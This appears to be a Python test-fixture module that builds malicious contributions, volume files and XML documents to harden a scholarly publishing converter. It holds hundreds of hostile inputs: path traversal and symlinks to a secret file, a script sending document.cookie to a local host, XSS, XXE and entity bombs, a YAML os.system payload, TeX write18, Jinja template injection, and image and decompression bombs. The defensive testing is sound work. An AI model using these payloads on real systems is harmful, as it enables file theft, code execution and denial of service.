"""What strangers might send, by the attack's name: contributions, volumes, XML files.

Each is tiny, or made by a line of code. `{SECRET}` is the path of a file outside the volume that must never be read.
"""

from __future__ import annotations

import gzip
import io
import struct
import zlib
from dataclasses import dataclass, field

from PIL import Image

HEADER = "---\ntitle: {fr: Titre, en: Title}\nauthors: [{given: Ana, family: Auteur}]\n---\n\n"


@dataclass(frozen=True)
class Attack:
    """A contribution: its text (header and body), the files beside it, links to make (name → target)."""

    text: str
    files: dict[str, bytes] = field(default_factory=dict)
    links: dict[str, str] = field(default_factory=dict)


def body(text: str, **files: bytes) -> Attack:
    """An attack in the body; `files` are named with `_` for `.`."""
    return Attack(
        f"{HEADER}# Début\n\nAvant.\n\n{text}\n\nAprès.\n", {k.replace("_", "."): v for k, v in files.items()}
    )


def svg(inner: str, attributes: str = "", before: str = "") -> Attack:
    """An attack in a drawing."""
    drawing = (
        f'{before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'viewBox="0 0 40 20" {attributes}><path d="M0 0H4"/>{inner}</svg>'
    )
    return body("![Dessin](a.svg)", a_svg=drawing.encode())


def header(fields: str, text: str = "Un texte.") -> Attack:
    """An attack in the header."""
    return Attack(f"---\n{fields}\n---\n\n# Début\n\n{text}\n")


def bib(text: str, cited: str = "Voir [@a].") -> Attack:
    """An attack in the bibliography."""
    return body(cited, r_bib=text.encode("utf-8", "surrogatepass"))


def png(width: int, height: int) -> bytes:
    """A PNG that says it has this size and holds hardly anything."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
    )


def _tiff_of(frames: int) -> bytes:
    out = io.BytesIO()
    pages = [Image.new("L", (1, 1)) for _ in range(frames)]
    pages[0].save(out, "TIFF", save_all=True, append_images=pages[1:])
    return out.getvalue()


LAUGHS = "<!DOCTYPE svg [<!ENTITY a0 'lol'>" + "".join(
    f"<!ENTITY a{i} '{f'&a{i - 1};' * 10}'>" for i in range(1, 10)
) + "]>"  # fmt: skip
EXTERNAL = "<!DOCTYPE svg [<!ENTITY x SYSTEM 'file://{SECRET}'>]>"

PATHS = {
    f"image-path-{name}": body(f"![Image]({path})")
    for name, path in {
        "up": "../../../secret.txt",
        "absolute": "{SECRET}",
        "file-url": "file://{SECRET}",
        "encoded": "..%2F..%2F..%2Fsecret.txt",
        "unc": "\\\\\\\\host\\share\\a.png",
        "unc-slashes": "//host/share/a.png",
        "drive": "C:/secret.png",
        "null": "a%00.png",
        "device": "/dev/zero",
        "proc": "/proc/self/environ",
        "fifo-like": "/dev/stdin",
        "home": "~/secret.png",
        "http": "http://127.0.0.1:9/a.png",
        "ftp": "ftp://127.0.0.1/a",
        "data-html": "data:text/html,<script>1</script>",
        "data-svg": "data:image/svg+xml,<svg/>",
        "javascript": "javascript:alert(1)",
        "folder": ".",
        "dots": "../../..",
        "very-long": "x" * 5000 + ".png",
        "gopher": "gopher://127.0.0.1/",
        "jar": "jar:file:///a!/b",
        "newline": "<a%0Ab.png>",
    }.items()
}

FILES = {
    "image-symlink": Attack(f"{HEADER}![Image](a.png)\n", links={"a.png": "{SECRET}"}),
    "image-symlink-folder": Attack(f"{HEADER}![Image](d/secret.txt)\n", links={"d": "{OUTSIDE}"}),
    "bibliography-symlink": Attack(f"{HEADER}[@a]\n", links={"r.bib": "{SECRET}"}),
    "bibliography-absolute": header("title: T\nauthors: [{name: A B}]\nbibliography: '{SECRET}'"),
    "bibliography-up": header("title: T\nauthors: [{name: A B}]\nbibliography: [../../../secret.txt]"),
    "bibliography-url": header("title: T\nauthors: [{name: A B}]\nbibliography: http://127.0.0.1:9/r.bib"),
    "bibliography-folder": header("title: T\nauthors: [{name: A B}]\nbibliography: ."),
    "bibliography-null": header('title: T\nauthors: [{name: A B}]\nbibliography: "a\\0.bib"'),
    "bibliography-long": header(f"title: T\nauthors: [{{name: A B}}]\nbibliography: {'x' * 5000}"),
    "myst-extends-outside": Attack(
        f"{HEADER}{{cite}}`a`\n", {"myst.yml": b"extends: ../../../secret.txt\nproject: {}\n"}
    ),
    "myst-extends-itself": Attack(f"{HEADER}{{cite}}`a`\n", {"myst.yml": b"extends: myst.yml\nproject: {title: x}\n"}),
    "myst-symlink": Attack(f"{HEADER}{{cite}}`a`\n", links={"myst.yml": "{SECRET}"}),
    "stylo-symlink": Attack("# T\n\nTexte\n", links={"article.yaml": "{SECRET}"}),
    "include-myst": body("```{include} {SECRET}\n```\n\n```{literalinclude} ../../../secret.txt\n```"),
    "include-quarto": body("{{< include {SECRET} >}}\n\n{{< embed ../../../secret.txt >}}"),
    "include-rmarkdown": body("```{r, child='{SECRET}'}\nreadLines('{SECRET}')\n```"),
    "include-obsidian": body("![[../../../secret.txt]]"),
    "csv-table-file": body("```{csv-table} T\n:file: {SECRET}\n```"),
    "include-graphics": body("```{r, fig.cap='x'}\nknitr::include_graphics('{SECRET}')\n```"),
    "include-graphics-url": body("```{r, fig.cap='x'}\nknitr::include_graphics('http://127.0.0.1:9/x.png')\n```"),
}

RAW = {
    f"raw-{name}": body(text)
    for name, text in {
        "script": "<script>fetch('http://127.0.0.1:9/'+document.cookie)</script>",
        "script-split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "script-case": "<ScRiPt\n>alert(1)</sCrIpT >",
        "onerror": "<img src=x onerror=alert(1)>",
        "onload-inline": "du <b onload='alert(1)' onclick=alert(2)>texte</b> ici",
        "iframe": "<iframe src='file://{SECRET}'></iframe>",
        "object": "<object data='file://{SECRET}'></object><embed src='{SECRET}'>",
        "style-import": "<style>@import url(file://{SECRET}); body{background:url(http://127.0.0.1:9/)}</style>",
        "style-attribute": "<div style='background:url(file://{SECRET})'>texte</div>",
        "base": "<base href='http://127.0.0.1:9/'>",
        "meta-refresh": "<meta http-equiv=refresh content='0;url=//x'>",
        "link-import": "<link rel=stylesheet href='http://127.0.0.1:9/a.css'>",
        "form": "<form action=//x><input name=a></form>",
        "svg-inline": "<svg onload=alert(1)><script>1</script></svg>",
        "math-inline": "<math><mtext><script>1</script></mtext></math>",
        "details": "<details ontoggle=alert(1) open>x</details>",
        "template": "<template><script>1</script></template>",
        "comment-break": "<!--><script>alert(1)</script>-->",
        "cdata": "<![CDATA[<script>alert(1)</script>]]>",
        "pi": "<?php system('id'); ?>",
        "link-javascript": "[lien](javascript:alert(1)) <a href='JaVa&#115;cript:alert(1)'>x</a>",
        "link-vbscript": "[lien](vbscript:x) [l](data:text/html;base64,PHNjcmlwdD4=)",
        "link-control": "[l](<java\tscript:alert(1)>)",
        "tex-input": "\\input{{SECRET}} \\include{{SECRET}} \\openin5={SECRET}",
        "tex-write18": "\\immediate\\write18{touch /tmp/pwned}",
        "tex-block": "\\begin{filecontents}{x}\na\n\\end{filecontents}\n\n\\verbatiminput{{SECRET}}",
        "tex-loop": "\\def\\a{\\a}\\a\n\n$\\def\\b{\\b\\b}\\b$",
        "tex-macro-bomb": "\\newcommand{\\a}{xxxxxxxxxx}\n"
        + "".join(f"\\newcommand{{\\a{'a' * i}}}{{{(chr(92) + 'a' * i) * 10}}}\n" for i in range(1, 12))
        + "\\aaaaaaaaaaaa",
        "raw-attribute-html": "```{=html}\n<script>alert(1)</script>\n```",
        "raw-attribute-openxml": "`<w:p/>`{=openxml}",
        "raw-attribute-inline": "`<script>alert(1)</script>`{=html} `\\input{x}`{=latex}",
        "raw-jats": "```{=jats}\n<xi:include href='file://{SECRET}'/>\n```",
        "attributes": "[x]{onclick=alert(1) style='x:url(//y)'}",
        "heading-attributes": '## H {#a onload=alert(1) .x"y}',
        "identifier": '## H {#"><script>}',
        "entities": "&#60;script&#62;1&#60;/script&#62;",
        "jinja": "{{ ''.__class__.__mro__[1].__subclasses__() }} {% include '{SECRET}' %}",
        "format-string": "{0.__class__} %s%n%x {secret}",
        "aside-mark": "<div data-actes-aside='0'>x</div>\n\n<div data-actes-aside='999999'></div>",
        "unclosed": "<div><b><i><table><tr><td>" * 40,
        "closing-only": "</div></p></table>" * 40,
    }.items()
}

DEPTHS = {
    "quotes-300": body("> " * 300 + "profond"),
    "quotes-5000": body(">" * 5000 + " profond"),
    "lists-200": body("\n".join("  " * i + "- x" for i in range(200))),
    "brackets-3000": body("[" * 3000 + "x" + "]" * 3000),
    "emphasis-2000": body("*a **b " * 1000),
    "divs-300": body("::: {.a}\n" * 300 + "texte\n" + ":::\n" * 300),
    "spans-300": body("[" * 300 + "x" + "]{.a}" * 300),
    "links-500": body("[a](" * 500),
    "notes-nested": body("^[" * 300 + "x" + "]" * 300),
    "notes-cycle": body("a[^1]\n\n[^1]: b[^2]\n\n[^2]: c[^1]"),
    "notes-10000": body(
        "".join(f"a[^{i}] " for i in range(3000)) + "\n\n" + "\n\n".join(f"[^{i}]: n" for i in range(3000))
    ),
    "html-500": body("<div>" * 500 + "x" + "</div>" * 500),
    "math-braces": body("$" + "{" * 2000 + "x" + "}" * 2000 + "$"),
    "math-fractions": body("$$" + "\\frac{1}{" * 400 + "1" + "}" * 400 + "$$"),
    "math-sqrt": body("$" + "\\sqrt{" * 900 + "x" + "}" * 900 + "$"),
    "math-long": body("$" + "x+" * 20000 + "x$"),
    "table-wide": body("|" + "a|" * 800 + "\n|" + "-|" * 800 + "\n|" + "b|" * 800),
    "table-long": body("| a | b |\n|---|---|\n" + "| x | y |\n" * 3000),
    "grid-table": body(("+---" * 60 + "+\n" + "| x " * 60 + "|\n") * 60 + "+---" * 60 + "+"),
    "html-table-spans": body("<table><tr><td rowspan=99999 colspan=99999>x</td></tr></table>"),
    "html-table-many-spans": body(f"<table>{'<tr><td colspan=60000>a</td><td colspan=1000>b</td></tr>' * 9}</table>"),
    "html-table-filled": body("<table><tr><td colspan=9999>a</td></tr><tr><td>b</td></tr></table>"),
    "table-of-one-row": body("|" + "a|" * 5000 + "\n|" + "-|" * 5000),
    "definition-lists": body("a\n: b\n\n" * 1500),
    "headings-2000": body("\n\n".join(f"{'#' * (i % 6 + 1)} H" for i in range(1500))),
    "line-1mb": body("mot " * 200000),
    "spaces-no-break": body("a" + "\u00a0" * 100000 + "; b"),
    "ordinals-raised": body("XIXe " * 20000),
    "calls-of-one-note": body("mot[^a] " * 5000 + "\n\n[^a]: Note."),
    "cross-references": body("@fig-x " * 10000),
    "word-200kb": body("x" * 200000),
    "backticks": body("`" * 4001 + "a"),
    "backtick-runs": body("".join("`" * (i % 90 + 1) + "a " for i in range(2000))),
    "stars": body("*" * 5000),
    "underscores": body("_a" * 5000),
    "tildes": body("~" * 3000 + "x"),
    "dollars": body("$" * 3001),
    "pipes": body("|" * 4000),
    "parentheses": body("(Vanier " * 1500 + "2008" + ")" * 1500),
    "typed-citations": body("(Vanier, 2008 ; " * 1500),
    "et-al": body("Vanier et al. " * 3000 + "(2008)"),
    "colons": body(":" * 4000),
    "at-signs": body("@" * 4000 + "a"),
    "citation-of-2000": body("[" + "; ".join(f"@k{i}" for i in range(1500)) + "]"),
    "regex-emails": body("a@" * 4000 + "b." * 2000),
    "regex-urls": body("http://" * 3000),
    "regex-shortcodes": body("{{< x " * 2000),
    "regex-wikilinks": body("[[a|" * 2000),
    "regex-roles": body("{cite}`" * 1501),
    "regex-fences": body("```{note}\n" * 400),
    "regex-colons": body(":::{figure} x\n" * 300),
    "regex-comments": body("%%a" * 3001),
    "regex-marks": body("==a " * 3000),
    "regex-abbreviations": body("M. " * 5000),
    "quotes-typography": body("« " * 3000 + "\" ' " * 3000),
    "roman-numerals": body("XIXe MMMM" * 2000),
    "spaces": body("a" + " " * 20000 + "b\t" * 3000),
    "html-comments": body("<!--" * 2000),
    "html-lt": body("<" * 5000),
    "attributes-long": body("[x]{" + "a=b " * 3000 + "}"),
}

CHARACTERS = {
    f"character-{name}": body(f"Un {text} mot.")
    for name, text in {
        "null": "\0",
        "bell": "\x07\x08\x1b[31m",
        "rtl-override": "\u202egnp.exe\u202c",
        "isolate": "\u2066\u2067x\u2069",
        "zero-width": "a\u200bb\u200dc\ufeff",
        "noncharacter": "\ufffe\uffff",
        "private": "\ue000\U000f0000",
        "combining": "e" + "\u0301" * 2000,
        "tags": "\U000e0041\U000e007f",
        "surrogate-like": "\\ud800",
        "line-separator": "\u2028\u2029\x85\x0b\x0c",
        "emoji": "👨‍👩‍👧‍👦" * 300,
        "ideographs": "𠀀𠮷" * 300,
        "vertical": "ᠮᠣᠩᠭᠣᠯ",
        "zalgo": "".join(c + "\u0316\u0334\u0361" for c in "texte"),
    }.items()
}

_PERSON = "authors: [{name: A B}]"
HEADERS = {
    "yaml-aliases": header("a: &a [x,x]\nb: &b [*a,*a]\nc: &c [*b,*b]\ntitle: T\n" + _PERSON),
    "yaml-bomb": header(
        "a: &a [l,l,l,l,l,l,l,l,l]\n"
        + "".join(f"{c}: &{c} [{','.join(['*' + p] * 9)}]\n" for p, c in zip("abcdefgh", "bcdefghi", strict=True))
        + "title: T"
    ),
    "yaml-deep": header("title: " + "[" * 900 + "]" * 900),
    "yaml-deep-map": header("title: " + "{a: " * 500 + "x" + "}" * 500),
    "yaml-python": header("title: !!python/object/apply:os.system ['touch /tmp/pwned']\n" + _PERSON),
    "yaml-merge": header("x: &x {a: b}\ntitle: T\n<<: *x"),
    "yaml-null-key": header("? \n: x\n? [a, b]\n: y\ntitle: T"),
    "yaml-directive": header("%TAG ! tag:x,2000:\n---\ntitle: T"),
    "yaml-many": header("title: T\n" + "".join(f"f{i}: x\n" for i in range(3000))),
    "yaml-long": header("title: " + "x" * 100000),
    "yaml-unclosed": Attack("---\ntitle: [\n"),
    "yaml-binary": header("title: !!binary AAAA\n" + _PERSON),
    "yaml-never-closed": Attack("---\n" + "a: b\n" * 2000),
    "title-jinja": header(
        'title: "{{ config.__class__.__init__.__globals__ }}{% for x in range(10**9) %}{% endfor %}"\n' + _PERSON
    ),
    "title-script": header("title: '<script>alert(1)</script>'\n" + _PERSON),
    "title-image": header("title: '![x]({SECRET})'\n" + _PERSON),
    "title-tex": header("title: '\\input{{SECRET}} $\\input{{SECRET}}$'\n" + _PERSON),
    "title-newlines": header('title: "a\\n\\n# b\\n\\n- c\\0\\x07"\n' + _PERSON),
    "title-note": header("title: 'a^[b]'\nabstract: 'c^[d]\n\n  ![x](/etc/passwd)'\n" + _PERSON),
    "title-cite": header("title: 'a [@b]'\nsubtitle: '@c'\n" + _PERSON),
    "author-script": header(
        "title: T\nauthors: [{given: '<script>', family: '\"><x', orcid: 'javascript:alert(1)', "
        "email: 'a@b\\r\\nBcc: c', url: 'javascript:alert(1)'}]"
    ),
    "author-thousands": header(
        "title: T\nauthors: [" + ", ".join(f"{{given: A{i}, family: B{i}}}" for i in range(3000)) + "]"
    ),
    "author-many": header("title: T\nauthors: [" + ", ".join("{name: A B}" for _ in range(600)) + "]"),
    "affiliation-cycle": header(
        "title: T\naffiliations: {a: a, b: {name: b, id: a}}\nauthors: [{name: A B, affiliations: [a, b]}]"
    ),
    "doi-path": header("title: T\ndoi: ../../../x\nid: ../../y\npages: 1-9999999\n" + _PERSON),
    "doi-script": header("title: T\ndoi: '10.5555/\"><script>'\n" + _PERSON),
    "licence-url": header("title: T\nlicence: file://{SECRET}\n" + _PERSON),
    "language-odd": header("title: T\nlanguage: ../../x\n" + _PERSON),
    "language-unknown": header("title: T\nlanguage: zz-Zzzz-ZZ\n" + _PERSON),
    "axis-path": header("title: T\naxis: ../../..\n" + _PERSON),
    "date-odd": header("title: T\ndate: 99999999999-99-99\n" + _PERSON),
    "keywords-odd": header("title: T\nkeywords: {fr: [{a: b}], '../x': [y]}\n" + _PERSON),
    "funding-odd": header("title: T\nfunding: [[[]]]\n" + _PERSON),
    "nocite-all": header("title: T\nnocite: ['*', '../x']\n" + _PERSON),
    "abstract-deep": header("title: T\nabstract: '" + "> " * 200 + "x'\n" + _PERSON),
    "types-wrong": header("title: {a: {b: c}}\nauthors: 3\nabstract: []\nkeywords: 7\nbibliography: {a: b}"),
}

BIBS = {
    "bib-crossref-cycle": bib("@book{a, crossref={b}, title={A}}\n@book{b, crossref={a}, title={B}}"),
    "bib-strings-cycle": bib("@string{a = b # b}\n@string{b = a # a}\n@book{a, title = a}"),
    "bib-string-bomb": bib(
        '@string{s0="xxxxxxxxxx"}\n'
        + "".join(f"@string{{s{i} = {' # '.join([f's{i - 1}'] * 10)}}}\n" for i in range(1, 12))
        + "@book{a, title = s11}"
    ),
    "bib-braces": bib("@book{a, title={" + "{" * 3000 + "x" + "}" * 3000 + "}}"),
    "bib-unclosed": bib("@book{a, title={" + "x" * 10000),
    "bib-tex": bib("@book{a, title={\\input{{SECRET}} \\write18{id}}, date={2001}}"),
    "bib-url": bib('@book{a, title={T}, url={javascript:alert(1)}, doi={"><script>}, file={{SECRET}}, date={2001}}'),
    "bib-names": bib("@book{a, author={" + " and ".join(["A, B"] * 1500) + "}, title={T}}"),
    "bib-set": bib("@set{a, entryset={a,b}}\n@book{b, title={T}}"),
    "bib-xdata": bib("@xdata{a, xdata={a}}\n@book{b, xdata={a}}"),
    "bib-related": bib("@book{a, related={a}, relatedtype={translationof}, title={T}}"),
    "bib-script": bib("@book{a, title={<script>alert(1)</script>}, author={<b>, <i>}, date={2001}}"),
    "bib-dates": bib("@book{a, title={T}, date={99999999/..}, year={-1}}"),
    "bib-many": bib("".join(f"@book{{k{i}, title={{T}}, author={{A, B}}}}\n" for i in range(1200))),
    "bib-key": bib("@book{<script>, title={T}}\n@book{../../x, title={U}}\n@book{a, title={V}}"),
    "bib-null": bib("@book{a, title={T\0\x07}, author={\u202eA, B}}"),
    "bib-comment": bib("@comment{" + "{" * 2000),
    "bib-bytes": body("[@a]", r_bib=bytes(range(256)) * 20),
    "bib-regex": bib("@book{a, title={" + "a--" * 5000 + "}, pages={" + "1-" * 3000 + "}}"),
    "bib-utf16": body("[@a]", r_bib="@book{a, title={T}}".encode("utf-16")),
}

SVGS = {
    "svg-script": svg("<script>alert(1)</script>"),
    "svg-onload": svg("<g onload='alert(1)'/>", "onload='alert(1)'"),
    "svg-entity-bomb": svg("<text>&a9;</text>", before=LAUGHS),
    "svg-external-entity": svg("<text>&x;</text>", before=EXTERNAL),
    "svg-external-dtd": svg("", before="<!DOCTYPE svg SYSTEM 'http://127.0.0.1:9/x.dtd'>"),
    "svg-image-file": svg("<image href='file://{SECRET}'/><image xlink:href='{SECRET}'/>"),
    "svg-image-http": svg("<image href='http://127.0.0.1:9/a.png'/>"),
    "svg-use": svg("<use href='{SECRET}#a'/>"),
    "svg-use-cycle": svg("<g id='a'><use href='#b'/></g><g id='b'><use href='#a'/></g>"),
    "svg-use-bomb": svg(
        "<g id='a0'><path d='M0 0'/></g>"
        + "".join(f"<g id='a{i}'>" + f"<use href='#a{i - 1}'/>" * 10 + "</g>" for i in range(1, 9))
        + "<use href='#a8'/>"
    ),
    "svg-style": svg("<style>@import 'file://{SECRET}'; a{fill:url(http://127.0.0.1:9/)}</style>"),
    "svg-style-attribute": svg("<path style=\"fill:url('file://{SECRET}#a')\"/>"),
    "svg-foreign": svg("<foreignObject><iframe src='file://{SECRET}'/></foreignObject>"),
    "svg-animate": svg("<a href='#'><animate attributeName='href' values='javascript:alert(1)'/></a>"),
    "svg-link": svg("<a href='javascript:alert(1)'><path d='M0 0'/></a>"),
    "svg-xinclude": svg("<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file://{SECRET}' parse='text'/>"),
    "svg-stylesheet": svg("", before="<?xml-stylesheet href='file://{SECRET}'?>"),
    "svg-huge": svg("", "width='9999999' height='9999999'"),
    "svg-nan": svg("<rect width='NaN' height='1e999'/>", "width='1e400'"),
    "svg-deep": svg("<g>" * 2000 + "</g>" * 2000),
    "svg-filter": svg("<filter id='f'><feImage href='file://{SECRET}'/></filter>"),
    "svg-css-escape": svg("<style>a{fill:u\\72l(file://{SECRET})}</style>"),
    "svg-data": svg("<image href='data:image/svg+xml;base64,PHN2Zy8+'/>"),
    "svg-not-xml": body("![x](a.svg)", a_svg=b"<svg"),
    "svg-empty": body("![x](a.svg)", a_svg=b""),
    "svgz-bomb": body(
        "![x](a.svgz)", a_svgz=gzip.compress(b"<svg xmlns='http://www.w3.org/2000/svg'>" + b" " * 60_000_000)
    ),
    "svg-html": body("![x](a.svg)", a_svg=b"<html><script>1</script></html>"),
}

IMAGES = {
    "png-bomb": body("![x](a.png)", a_png=png(60000, 60000)),
    "png-zero": body("![x](a.png)", a_png=png(0, 0)),
    "png-truncated": body("![x](a.png)", a_png=png(100, 100)[:60]),
    "png-lies": body("![x](a.png)", a_png=png(5000, 5000)),
    "png-is-html": body("![x](a.png)", a_png=b"<html><script>1</script>"),
    "png-empty": body("![x](a.png)", a_png=b""),
    "jpg-garbage": body("![x](a.jpg)", a_jpg=b"\xff\xd8\xff\xe0" + bytes(200)),
    "gif-garbage": body("![x](a.gif)", a_gif=b"GIF89a" + b"\xff" * 50),
    "tiff-frames": body("![x](a.tif)", a_tif=_tiff_of(300)),
    "eps": body("![x](a.eps)", a_eps=b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n({SECRET}) (r) file\n"),
    "webp-garbage": body("![x](a.webp)", a_webp=b"RIFF\xff\xff\xff\x7fWEBPVP8 "),
    "image-huge-width": body("![x](a.png){width=99999999cm height=-5}", a_png=png(1, 1)),
    "pdf-as-image": body("![x](a.pdf)", a_pdf=b"%PDF-1.4\n/Launch"),
}

CONTRIBUTIONS = {**PATHS, **FILES, **RAW, **DEPTHS, **CHARACTERS, **HEADERS, **BIBS, **SVGS, **IMAGES}

_VOLUME = "id: essai\nlanguage: fr\ntitle: {fr: Essai, en: Trial}\naxes: [{id: axe-1, title: {fr: Un, en: One}}]\n"
VOLUMES = {
    "id-path": _VOLUME.replace("id: essai", "id: ../../x", 1),
    "id-absolute": _VOLUME.replace("id: essai", "id: /tmp/x", 1),
    "front-outside": _VOLUME + "front: ['{SECRET}', ../secret.txt]\n",
    "back-cover-outside": _VOLUME + "back-cover: '{SECRET}'\n",
    "style-outside": _VOLUME + "style: '{SECRET}'\n",
    "style-url": _VOLUME + "style: http://127.0.0.1:9/x.csl\n",
    "axis-path": _VOLUME.replace("id: axe-1", "id: ../.."),
    "introduction-outside": _VOLUME.replace("id: axe-1", "id: axe-1, introduction: ../secret.txt"),
    "doi-pattern": _VOLUME
    + "doi: {prefix: '10.5555', volume: x, pattern: '{prefix.__class__.__mro__}{number:>999999999}'}\n",
    "landing-pattern": _VOLUME + "deposit: {landing-pattern: 'javascript:{slug.__class__}'}\n",
    "title-jinja": _VOLUME + 'notice: {fr: "{{ 7*7 }}{{ self._TemplateReference__context }}"}\n',
    "bomb": "a: &a [x,x,x,x,x,x,x,x]\n"
    + "".join(f"{c}: &{c} [{','.join(['*' + p] * 9)}]\n" for p, c in zip("abcdefgh", "bcdefghi", strict=True))
    + _VOLUME,
    "not-a-mapping": "- a\n- b\n",
    "empty": "",
    "binary": "\0\1\2",
    "rules-odd": _VOLUME + "rules: {x: [y], '../z': error}\nlimits: {words-max: -1}\n",
}

XMLS = {
    "laughs": LAUGHS.replace("DOCTYPE svg", "DOCTYPE article") + "<article>&a9;</article>",
    "external": EXTERNAL.replace("DOCTYPE svg", "DOCTYPE article") + "<article>&x;</article>",
    "parameter": "<!DOCTYPE article [<!ENTITY % p SYSTEM 'http://127.0.0.1:9/x'> %p;]><article/>",
    "dtd": "<!DOCTYPE article SYSTEM 'file://{SECRET}'><article/>",
    "xinclude": "<article xmlns:xi='http://www.w3.org/2001/XInclude'>"
    "<xi:include href='file://{SECRET}' parse='text'/></article>",
    "deep": "<article>" + "<p>" * 3000 + "</p>" * 3000 + "</article>",
    "not-xml": "article",
    "empty": "",
    "stylesheet": "<?xml-stylesheet href='file://{SECRET}'?><article/>",
    "encoding": "<?xml version='1.0' encoding='utf-7'?><article/>",
}
